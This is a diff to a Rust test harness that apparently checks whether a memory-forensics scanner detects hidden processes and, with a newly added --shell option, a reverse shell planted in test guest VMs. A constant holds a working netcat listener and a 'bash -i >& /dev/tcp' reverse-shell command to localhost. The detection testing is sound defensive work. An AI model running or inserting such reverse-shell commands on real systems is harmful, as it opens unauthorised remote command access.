@@ -23,8 +23,8 @@ use crate::{folders, program, tamper};
 ///
 /// The guests fork 50 processes a second, and change files, threads and connections all the time.
 /// No copy may be refused, and 99 % of the processes that lived through the copies must be printed,
-/// each with its own values. No alert may be false. With --hide, a process is hidden first, which
-/// 95 % of the copies must show.
+/// each with its own values. No alert may be false. What is planted (--hide, --shell) must be shown
+/// by 95 % of the copies.
 #[derive(Args, Debug)]
 pub(crate) struct Options {
     /// Kernels of the guests
@@ -40,12 +40,20 @@ pub(crate) struct Options {
     /// Hide a process from these views before the copies, as `task-list` or `task-list,idr`
     #[arg(long, value_name = "VIEWS", value_delimiter = ',')]
     hide: Vec<String>,
+    /// Let a shell take commands from a connection, which the copies must show, too
+    #[arg(long)]
+    shell: bool,
 }
 
 /// Bytes that are copied at a time.
 const CHUNK: usize = 1 << 20;
 /// Memory of a guest in MiB.
 const MEMORY_MIB: u32 = 256;
+/// A reverse shell, and the peer that it takes commands from.
+const SHELL: [&str; 2] = [
+    "run (sleep 100000 | busybox nc -l -p 4444) >/dev/null 2>&1 &",
+    "run bash -c 'sleep 1; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' </dev/null >/dev/null 2>&1 &",
+];
 /// What lives longer stays.
 const LIFE: Duration = Duration::from_secs(5);
 /// Processes that begin each second, and how long each lives at most.
@@ -68,33 +76,48 @@ struct Sum {
     false_alerts: usize,
     /// Copies that show the process that was hidden.
     detected: usize,
+    /// Copies that show the shell.
+    shells: usize,
+}
+
+/// What the guests have that copies must show.
+#[derive(Clone, Copy, Debug, Default)]
+struct Planted {
+    /// A hidden process.
+    hidden: Option<u64>,
+    shell: bool,
 }
 
 impl fmt::Display for Sum {
     fn fmt(&self, out: &mut fmt::Formatter<'_>) -> fmt::Result {
-        let Self { copies, refused, lived, missing, wrong, false_alerts, detected } = self;
+        let Self { copies, refused, lived, missing, wrong, false_alerts, .. } = self;
+        let Self { detected, shells, .. } = self;
         write!(
             out,
             "{copies} copies: {refused} refused; of {lived} processes that lived through a copy, \
              {missing} missing, {wrong} with a wrong value; {false_alerts} false alerts; \
-             {detected} copies with the hidden process"
+             {detected} copies with the hidden process, {shells} with the shell"
         )
     }
 }
 
 impl Sum {
-    fn is_good(&self, hides: bool) -> bool {
+    fn is_good(&self, planted: Planted) -> bool {
+        let is_enough = |shown: usize| shown * 100 >= self.copies * 95;
         self.copies > 0
             && self.lived > 0
             && self.refused + self.wrong + self.false_alerts == 0
             && self.missing * 100 <= self.lived
-            && (!hides || self.detected * 100 >= self.copies * 95)
+            && (planted.hidden.is_none() || is_enough(self.detected))
+            && (!planted.shell || is_enough(self.shells))
     }
 
     /// Whether a copy has added nothing that must not be.
-    fn is_as_good_as(&self, before: &Self, hidden: Option<u64>) -> bool {
+    fn is_as_good_as(&self, before: &Self, planted: Planted) -> bool {
         let faults = |sum: &Self| sum.refused + sum.missing + sum.wrong + sum.false_alerts;
-        faults(self) == faults(before) && (hidden.is_none() || self.detected > before.detected)
+        faults(self) == faults(before)
+            && (planted.hidden.is_none() || self.detected > before.detected)
+            && (!planted.shell || self.shells > before.shells)
     }
 }
 
@@ -112,7 +135,9 @@ pub(crate) fn run(options: &Options) -> Result<(), String> {
         death::survive(|| copy_guest(*flavor, &kernel, &program, options, &mut sum))?;
     }
     println!("{sum}");
-    if sum.is_good(!options.hide.is_empty()) {
+    // The number of the hidden process is another one in each guest.
+    let hidden = (!options.hide.is_empty()).then_some(0);
+    if sum.is_good(Planted { hidden, shell: options.shell }) {
         return Ok(());
     }
     Err("not everything is as it must be; see above".into())
@@ -136,7 +161,14 @@ fn copy_guest(
     for command in ["zoo", STORM, CHURN] {
         guest.agent(command)?;
     }
+    if options.shell {
+        for command in SHELL {
+            guest.agent(command)?;
+        }
+        sleep(LIFE);
+    }
     let hidden = if options.hide.is_empty() { None } else { Some(hide(&mut guest, options)?) };
+    let planted = Planted { hidden, shell: options.shell };
     let folder = folders::numbered("copies")?;
     let (torn, packed) = (folder.join("torn.raw"), folder.join("packed"));
     for number in 0..options.copies {
@@ -149,8 +181,8 @@ fn copy_guest(
         println!("copy {number}, {seconds} s, {format}:");
         let sum_before = *sum;
         sum.copies += 1;
-        judge(program, &packed, (&before, &after), hidden, sum)?;
-        if !sum.is_as_good_as(&sum_before, hidden) {
+        judge(program, &packed, (&before, &after), planted, sum)?;
+        if !sum.is_as_good_as(&sum_before, planted) {
             let copy = folder.join(format!("copy-{number}"));
             std::fs::rename(&packed, &copy)
                 .map_err(|error| format!("{}: {error}", copy.display()))?;
@@ -170,7 +202,7 @@ fn judge(
     program: &Path,
     packed: &Path,
     (before, after): (&Truth, &Truth),
-    hidden: Option<u64>,
+    planted: Planted,
     sum: &mut Sum,
 ) -> Result<(), String> {
     let scanned = scan(program, packed, &["--only", "processes"])?;
@@ -195,7 +227,7 @@ fn judge(
     sum.lived += truth;
     sum.missing += missing;
     sum.wrong += wrong.len();
-    judge_alerts(&scan(program, packed, &["--alerts"])?, hidden, sum);
+    judge_alerts(&scan(program, packed, &["--alerts"])?, planted, sum);
     Ok(())
 }
 
@@ -279,9 +311,9 @@ fn scan(program: &Path, path: &Path, arguments: &[&str]) -> Result<Output, Strin
     bounded::output_within(&mut command, bounded::LONG).map_err(|error| error.to_string())
 }
 
-/// Counts alerts about anything but the hidden process. A copy whose alerts cannot be printed is
+/// Counts alerts about anything but what was planted. A copy whose alerts cannot be printed is
 /// refused.
-fn judge_alerts(output: &Output, hidden: Option<u64>, sum: &mut Sum) {
+fn judge_alerts(output: &Output, planted: Planted, sum: &mut Sum) {
     if !output.status.success() {
         sum.refused += 1;
         let message = String::from_utf8_lossy(&output.stderr).trim().replace('\n', " | ");
@@ -289,22 +321,29 @@ fn judge_alerts(output: &Output, hidden: Option<u64>, sum: &mut Sum) {
         return;
     }
     let text = String::from_utf8_lossy(&output.stdout);
-    let mut is_detected = false;
+    let (mut has_hidden, mut has_shell) = (false, false);
     for line in text.lines() {
         let record: Value = serde_json::from_str(line).unwrap_or_default();
         let data = &record["activity_data"];
-        let is_hidden_one = data["name"] == "process_hidden"
-            && hidden.is_some()
-            && data["process_details"]["process_id"].as_u64() == hidden;
-        is_detected |= is_hidden_one;
-        if !is_hidden_one {
-            sum.false_alerts += 1;
-            println!("  false alert: {}: {}", data["name"], record["detection"]["reason"]);
+        let process = data["process_details"]["process_id"].as_u64();
+        match data["name"].as_str() {
+            Some("process_hidden") if planted.hidden.is_some() && process == planted.hidden => {
+                has_hidden = true;
+            }
+            Some("reverse_shell_detected") if planted.shell => has_shell = true,
+            _ => {
+                sum.false_alerts += 1;
+                println!("  false alert: {}: {}", data["name"], record["detection"]["reason"]);
+            }
         }
     }
-    sum.detected += usize::from(is_detected);
-    if hidden.is_some() && !is_detected {
+    sum.detected += usize::from(has_hidden);
+    sum.shells += usize::from(has_shell);
+    if planted.hidden.is_some() && !has_hidden {
         println!("  the hidden process is not shown");
+    }
+    if planted.shell && !has_shell {
+        println!("  the shell is not shown");
     }
 }
 
@@ -324,12 +363,12 @@ mod tests {
     #[test]
     fn a_copy_without_alerts_is_good_only_if_the_scan_has_succeeded() {
         let good = Sum { copies: 1, lived: 9, ..Sum::default() };
-        let mut sum = Sum { ..good };
-        judge_alerts(&output(0, ""), None, &mut sum);
-        assert!(sum.is_good(false), "{sum}");
-        judge_alerts(&output(1, ""), None, &mut sum);
-        assert!(!sum.is_good(false), "{sum}");
-        assert!(!Sum { lived: 0, ..good }.is_good(false));
+        let (mut sum, none) = (good, Planted::default());
+        judge_alerts(&output(0, ""), none, &mut sum);
+        assert!(sum.is_good(none), "{sum}");
+        judge_alerts(&output(1, ""), none, &mut sum);
+        assert!(!sum.is_good(none), "{sum}");
+        assert!(!Sum { lived: 0, ..good }.is_good(none));
     }
 
     #[test]
@@ -341,9 +380,10 @@ mod tests {
             )
         };
         let mut sum = Sum { copies: 1, lived: 9, ..Sum::default() };
-        judge_alerts(&output(0, &alert(7)), Some(7), &mut sum);
-        assert!((sum.detected, sum.false_alerts) == (1, 0) && sum.is_good(true), "{sum}");
-        judge_alerts(&output(0, &alert(8)), Some(7), &mut sum);
+        let planted = Planted { hidden: Some(7), shell: false };
+        judge_alerts(&output(0, &alert(7)), planted, &mut sum);
+        assert!((sum.detected, sum.false_alerts) == (1, 0) && sum.is_good(planted), "{sum}");
+        judge_alerts(&output(0, &alert(8)), planted, &mut sum);
         assert_eq!((sum.detected, sum.false_alerts), (1, 1));
     }
 }
